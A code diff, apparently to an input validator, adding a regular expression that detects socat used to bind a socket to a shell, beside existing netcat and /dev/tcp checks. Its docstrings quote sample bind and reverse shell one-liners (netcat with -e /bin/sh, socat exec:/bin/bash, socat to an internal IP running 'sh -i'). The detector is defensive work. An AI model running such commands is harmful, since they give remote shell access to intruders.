@@ -144,6 +144,14 @@ _NC_SHELL = re.compile(
 )
 """netcat told to hand a shell to whoever connects (``nc -lvvp 4444 -e /bin/sh``, ``ncat -e cmd.exe``): a bind
 or reverse shell, whether it opens the value or follows a separator."""
+_SOCAT_SHELL = re.compile(
+    r"(?<![\w.-])socat(?:\.exe)?\s[^\n;|&]{0,100}?(?<![\w-])(?:exec|system):\s*['\"]?"
+    r"(?:/[\w/]*/)?(?:(?:ba|z|k|da)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)\b",
+    re.I,
+)
+"""socat joining a socket to a shell (``socat tcp-listen:5555 exec:/bin/bash``, ``socat TCP:10.0.0.9:80
+EXEC:'sh -i',pty``): netcat's ``-e`` in socat's address syntax. A port forward (``socat TCP-LISTEN:80,fork
+TCP:app:8080``) names no program."""
 _QUOTE_THEN_TOOL = re.compile(r"""^\s*['"]\s*(?:(?:&&|\|\||[;&|])\s*)?""")
 """A value that closes a quoted argument and goes straight on to a command (``' whoami``, ``" & whoami``)."""
 _PHP_CODE = re.compile(
@@ -328,6 +336,7 @@ def _nested_command(text: str) -> tuple[int, int] | None:
     escapes, wrappers and ``sh -c``."""
     found = (_DEV_TCP.search(text) if "/dev/" in text else None) or (
         _NC_SHELL.search(text) if "-" in text and "n" in text else None) or (
+        _SOCAT_SHELL.search(text) if "ocat" in text or "OCAT" in text else None) or (
         _PHP_CODE.search(text) if "$" in text or "<?" in text or "info(" in text or "uname(" in text else None
     )
     if found:
